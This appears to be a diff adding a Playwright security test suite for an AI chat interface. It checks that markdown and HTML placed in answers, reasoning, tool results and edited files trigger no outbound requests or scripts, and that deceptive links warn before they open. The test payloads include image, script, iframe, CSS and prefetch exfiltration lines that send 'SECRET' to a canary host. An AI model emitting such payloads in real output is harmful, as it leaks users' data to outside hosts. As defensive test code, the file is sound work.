@@ -1,0 +1,157 @@
+import { writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { expect, type Page } from '@playwright/test';
+import { approvalDialog, makeCalls, write } from './testing/approval-dialog';
+import { conversationRow } from './testing/conversation-row';
+import { writeEvents } from './testing/write-events';
+import { test } from './web-host-test';
+
+test.use({ model: 'parrot' });
+
+/** What wants to be told something; it answers everything, and counts. */
+let canary: Server;
+let origin: string;
+const heard: string[] = [];
+
+test.beforeAll(async () => {
+  canary = createServer((request, response) => {
+    heard.push(request.url ?? '');
+    response.setHeader('access-control-allow-origin', '*').end('heard');
+  });
+  await new Promise<void>((listening) => canary.listen(0, '127.0.0.1', listening));
+  origin = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
+});
+test.afterAll(() => canary.close());
+test.beforeEach(() => heard.splice(0));
+
+const image = () => `![x](${origin}/?d=SECRET)`;
+const elements = () =>
+  [
+    `<img src="${origin}/img?d=SECRET" onerror="window.hasRun = true">`,
+    '<img src=x onerror="window.hasRun = true">',
+    `<svg onload="window.hasRun = true"><image href="${origin}/svg" /></svg>`,
+    `<iframe src="${origin}/iframe"></iframe><iframe srcdoc="<script>parent.hasRun = true</script>"></iframe>`,
+    `<p style="background: url(${origin}/style)">styled</p>`,
+    `<style>body { background: url(${origin}/sheet) }</style>`,
+    `<link rel=prefetch href="${origin}/prefetch"><link rel="dns-prefetch" href="${origin}/dns">`,
+    `<script>window.hasRun = true; fetch('${origin}/script')</script>`,
+    `<a href="${origin}/ping" ping="${origin}/ping">a</a> [b](javascript:window.hasRun=true)`,
+  ].join('\n\n');
+
+/** Everything that Chromium itself says was asked for, or was kept from being asked for, besides the page's own host. */
+async function watchRequests(page: Page, url: string) {
+  const asked: string[] = [];
+  const own = new URL(url).host;
+  const note = (address: string) => {
+    if (!address.startsWith('data:') && new URL(address).host !== own) asked.push(address);
+  };
+  page.context().on('request', (request) => note(request.url()));
+  const session = await page.context().newCDPSession(page);
+  await session.send('Network.enable');
+  session.on('Network.requestWillBeSent', ({ request }) => note(request.url));
+  session.on('Network.webSocketCreated', ({ url: address }) => note(address));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ blockedURI }) => {
+      // A library of ours looks whether it may compile, and does without.
+      if (blockedURI !== 'eval') Object.assign(window, { refused: blockedURI });
+    });
+  });
+  return asked;
+}
+
+async function expectSilence(page: Page, asked: readonly string[]): Promise<void> {
+  // Long enough for whatever would load to be asked for.
+  await page.waitForTimeout(500);
+  const { hasRun, refused } = await page.evaluate(() => {
+    const { hasRun, refused } = window as unknown as { hasRun?: boolean; refused?: string };
+    return { hasRun, refused };
+  });
+  expect({ asked, heard, hasRun, refused }).toEqual({ asked: [], heard: [], hasRun: undefined, refused: undefined });
+}
+
+test('the canary hears what is asked of it', async () => {
+  await fetch(`${origin}/?d=SECRET`);
+  expect(heard).toEqual(['/?d=SECRET']);
+});
+
+for (const [id, payload] of [
+  ['EX-01', image],
+  ['EX-02', elements],
+] as const) {
+  test(`${id}: 0 requests and 0 scripts, as answer, thinking, user text, title, tool result and file content`, async ({
+    page,
+    dataPath,
+    webHost,
+  }) => {
+    await writeEvents(dataPath, payload(), ({ runId, messageId, at }) => [
+      { type: 'thinking', messageId, text: payload(), signature: 's', at },
+      { type: 'parse-results', messageId, results: [{ kind: 'text', text: payload() }], at },
+      { type: 'answer-finished', messageId, finish: 'stop', at },
+      { type: 'run-completed', runId, at },
+    ]);
+    const url = await webHost.restart();
+    const asked = await watchRequests(page, url);
+    await page.goto(url);
+    await conversationRow(page, payload().slice(0, 20)).click();
+    await page.getByRole('button', { name: 'Thought for a moment' }).click();
+    await expect(page.getByRole('main')).toContainText(id === 'EX-01' ? new URL(origin).host : '<iframe src=');
+    await expectSilence(page, asked);
+
+    writeFileSync(join(webHost.workspacePath, 'page.md'), payload());
+    await page.getByRole('button', { name: 'New conversation' }).click();
+    await makeCalls(
+      page,
+      { tool: 'file-read', parameters: { path: 'page.md' } },
+      write('page.md', `${payload()}\nmore`),
+    );
+    const { dialog, deny } = approvalDialog(page);
+    await expect(dialog.locator('.cm-content')).toContainText('more');
+    await expectSilence(page, asked);
+    await deny.click();
+    await page
+      .getByRole('article', { name: /^Read file/ })
+      .getByRole('button', { name: 'Details' })
+      .click();
+    await expectSilence(page, asked);
+  });
+}
+
+test('EX-05: a link shows its full address and asks; only then is it opened', async ({ page, webHost }) => {
+  const asked = await watchRequests(page, webHost.url);
+  await page.goto(webHost.url);
+  const address = `${origin}/?d=${'SECRET'.repeat(40)}`;
+  const message = page.getByRole('textbox', { name: 'Message' });
+  await message.fill(`[github.com](${address})`);
+  await message.press('Enter');
+  const link = page.getByRole('main').getByRole('link', { name: 'github.com' });
+  await link.hover();
+  await link.click({ modifiers: ['ControlOrMeta'] });
+  const dialog = page.getByRole('dialog', { name: 'Open this link?' });
+  await expect(dialog).toContainText(address);
+  await expect(dialog).toContainText(`Its text names github.com, but it leads to ${new URL(origin).host}.`);
+  await expectSilence(page, asked);
+  await dialog.getByRole('button', { name: 'Cancel' }).click();
+  await expect(dialog).toBeHidden();
+  await link.press('Enter');
+  const opened = page.context().waitForEvent('page');
+  await dialog.getByRole('button', { name: 'Open in browser' }).click();
+  const tab = await opened;
+  await tab.waitForLoadState();
+  expect(heard[0]).toBe(address.slice(origin.length));
+  expect(await tab.evaluate(() => [window.opener, document.referrer])).toEqual([null, '']);
+});
+
+test('EX-12: an address in a file that is edited is never asked for by the editor', async ({ page, webHost }) => {
+  const asked = await watchRequests(page, webHost.url);
+  writeFileSync(join(webHost.workspacePath, 'settings.json'), '{\n  "a": 1\n}\n');
+  await page.goto(webHost.url);
+  await makeCalls(page, write('settings.json', `{\n  "$schema": "${origin}/?d=SECRET",\n  "a": 1\n}\n`));
+  const { dialog, approve } = approvalDialog(page);
+  await expect(dialog.locator('.cm-content')).toContainText('$schema');
+  await expectSilence(page, asked);
+  await approve.click();
+  await expect(page.getByRole('article', { name: /^Write file/ })).toContainText('Completed');
+  await expectSilence(page, asked);
+});
